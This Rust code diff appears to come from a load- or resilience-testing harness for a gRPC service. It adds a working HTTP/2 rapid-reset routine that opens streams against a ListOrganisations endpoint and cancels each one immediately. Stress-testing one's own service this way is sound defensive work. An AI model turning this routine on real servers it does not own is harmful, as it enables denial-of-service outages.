@@ -13,7 +13,7 @@ use std::{
 use tokio::process::{Child, Command};
 
 use crate::{
-    attack::{besiege, rapid_reset},
+    attack::besiege,
     load::{Run, Serials, paced},
     orders,
     process::Process,
@@ -114,4 +114,26 @@ pub(crate) async fn attack(address: SocketAddr) {
     tokio::io::copy(&mut tokio::io::stdin(), &mut tokio::io::sink()).await.unwrap();
     over.store(true, Ordering::Relaxed);
     println!("{} {}", resets.await.unwrap(), waves.await.unwrap());
+}
+
+/// Begins calls over one connection and resets each at once, until the other side closes it or there were `many`; answers
+/// how many. Those that the client still holds back when they are reset never leave it.
+async fn rapid_reset(address: SocketAddr, many: usize) -> usize {
+    let Ok(stream) = tokio::net::TcpStream::connect(address).await else { return 0 };
+    let Ok((mut attacker, connection)) = h2::client::handshake(stream).await else { return 0 };
+    let gone = tokio::spawn(connection);
+    let mut sent = 0;
+    for _ in 0..many {
+        let Ok(ready) = attacker.clone().ready().await else { break };
+        attacker = ready;
+        let uri = format!("http://{address}/circula.programme.v1.ProgrammeService/ListOrganisations");
+        let request = http::Request::post(uri).header("content-type", "application/grpc").body(());
+        let request = request.expect("an address makes a request");
+        let Ok((_, mut body)) = attacker.send_request(request, false) else { break };
+        body.send_reset(h2::Reason::CANCEL);
+        sent += 1;
+    }
+    drop(attacker);
+    tokio::time::timeout(Duration::from_secs(20), gone).await.ok();
+    sent
 }
